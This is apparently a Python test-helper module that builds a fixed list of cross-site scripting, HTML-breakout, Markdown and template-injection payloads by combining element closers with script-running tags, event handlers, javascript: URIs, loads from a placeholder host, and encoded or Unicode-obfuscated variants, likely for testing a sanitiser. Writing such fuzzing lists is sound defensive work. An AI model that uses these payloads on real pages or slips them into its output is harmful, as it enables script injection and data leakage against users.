"""Make strings that try to break out of a page: markup, Markdown, links, encodings, templates.

Each tries to run a script, to load something from ``elsewhere.example``, or to close the element
that holds it. They are combined from parts, so that each way in meets each way out.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

ELSEWHERE = "http://elsewhere.example"
RUN = "alert(1)"

CLOSERS = (
    "", '">', "'>", "</p>", "</textarea>", "</title>", "</script>", "</mark></article>", "-->", "]]>",
)  # fmt: skip
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}/s.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={ELSEWHERE}/i.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={ELSEWHERE}/v.mp4 onerror={RUN}></video>",
    f"<style>@import '{ELSEWHERE}/c.css';</style>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action={ELSEWHERE}><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
)
ALONE = (
    f"<body onload={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<audio src=x onerror={RUN}>",
    f"<object data={ELSEWHERE}></object>", f"<embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}/c.css>", f"<math href=javascript:{RUN}>x</math>",
    f"<img src=x onerror={RUN}//", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src='x' onerror\t=\t{RUN}>", f"<svg/onload={RUN}", f"<scr<script>ipt>{RUN}</script>",
    f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"<!--><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><b>{RUN}</template>",
    f"<div style='background:url({ELSEWHERE}/b.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    f"<p onclick={RUN} onmouseover={RUN} style='font-size:99px'>x</p>",
    f"<img srcset='{ELSEWHERE}/i.png 1x'>", f"<picture><source srcset={ELSEWHERE}/i.png></picture>",
    f"<table background={ELSEWHERE}/t.png><tr><td>x</table>", "</div></div></div></main></body>",
    f"<svg><image href={ELSEWHERE}/i.svg /></svg>", f"<svg><use href={ELSEWHERE}/i.svg#x /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", "<plaintext>", "<xmp>", "<!--",
)  # fmt: skip
ATTRIBUTES = (
    f'" onmouseover={RUN} x="', f"' onmouseover={RUN} x='", f'" autofocus onfocus={RUN} "',
    f"` onclick={RUN} `", f'" style="background:url({ELSEWHERE})', f'x" href="javascript:{RUN}',
    f'"/><img src=x onerror={RUN}>', f"\\\"><img src=x onerror={RUN}>", f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "//elsewhere.example/x", f"{ELSEWHERE}@127.0.0.1/",
)  # fmt: skip
MARKDOWN = (
    f"![x]({ELSEWHERE}/i.png)", f"![x][r]\n\n[r]: {ELSEWHERE}/i.png", f"![x](javascript:{RUN})",
    f"[![x]({ELSEWHERE}/i.png)]({ELSEWHERE})", f"[x]({ELSEWHERE}/?q=secret)",
    f"[x](javascript:{RUN})", f"[x](JAVASCRIPT:{RUN})", f"[x](javascript&colon;{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", f"[x](vbscript:{RUN})",
    f"[x](<javascript:{RUN}>)", f'[x](/guide/a "onmouseover={RUN}")', f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n[x]", f"<{ELSEWHERE}>", f'![x](x "y" onerror={RUN})',
    f"![x](x){{onerror={RUN}}}", f"```\n</code></pre><img src=x onerror={RUN}>\n```",
    f"`</code><img src=x onerror={RUN}>`", f"| <img src=x onerror={RUN}> | x |",
    f"> <img src=x onerror={RUN}>", f"# <img src=x onerror={RUN}>", f"**<img src=x onerror={RUN}>**",
    f"$\\href{{javascript:{RUN}}}{{x}}$", f"$$\\url{{javascript:{RUN}}}$$", "[^1]: <script>",
    f"![](/gradio_api/file={ELSEWHERE}/i.png)", "[1](#cite-1)", "[1] [2] [999999]", "[-1] [1e9]",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{%raw%}", "{0.__class__}", "%s%n%x", "{question}",
    "{{constructor.constructor('alert(1)')()}}", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)",
    "<scr\u200bipt>alert(1)</script>", "\u202egnp.exe\u202c", "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "\u2028alert(1)\u2029", "<\x00script>alert(1)</script>",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """Return the strings, each once, in a fixed order."""
    return tuple(dict.fromkeys(_payloads()))


def _payloads() -> Iterator[str]:
    for closer, element in product(CLOSERS, ELEMENTS):
        yield f"{closer}{element}"
    yield from (*ALONE, *ATTRIBUTES, *MARKDOWN, *TEMPLATES)
    for element in ELEMENTS[:6]:
        yield html.escape(element)
        yield html.escape(html.escape(element))
        yield "".join(f"&#{ord(letter)};" for letter in element)
        yield quote(element)
